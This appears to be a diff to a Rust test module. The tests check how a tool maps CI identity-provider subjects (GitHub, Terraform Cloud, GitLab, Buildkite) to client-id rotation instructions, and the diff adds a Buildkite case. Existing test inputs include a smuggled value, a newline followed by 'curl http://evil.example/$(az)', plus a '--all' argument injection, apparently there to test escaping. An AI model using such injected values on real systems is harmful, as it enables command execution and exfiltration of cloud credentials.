@@ -137,6 +137,10 @@ mod tests {
             ("https://token.actions.contoso.ghe.com", "repo:contoso/shop:ref:refs/heads/main"),
             ("https://app.terraform.io", "organization:contoso:project:p:workspace:w:run_phase:apply"),
             ("https://gitlab.com", "project_path:contoso/shop:ref_type:branch:ref:main"),
+            (
+                "https://agent.buildkite.com",
+                "organization:contoso:pipeline:shop:ref:refs/heads/main:commit:9f31:step:s",
+            ),
             ("https://x.example/ado", "sc://org/proj/conn\ncurl http://evil.example/$(az)\n"),
             ("https://x.example/k8s", "system:serviceaccount:pay:--all"),
         ];
@@ -149,6 +153,7 @@ mod tests {
             "gh secret set AZURE_CLIENT_ID --repo contoso.ghe.com/contoso/shop --body new-cid",
             "set TFC_AZURE_RUN_CLIENT_ID (or TFC_AZURE_PLAN_CLIENT_ID and TFC_AZURE_APPLY_CLIENT_ID) to new-cid",
             "glab variable update AZURE_CLIENT_ID --repo https://gitlab.com/contoso/shop --value new-cid",
+            "https://buildkite.com/contoso/shop\nset the client id (mostly AZURE_CLIENT_ID) to new-cid\n",
             "  sc://org/proj/conn\\ncurl http://evil.example/$(az)\\n\n",
             "  repository_owner:contoso:environment:prod\n",
             "  system:serviceaccount:pay:--all\n",
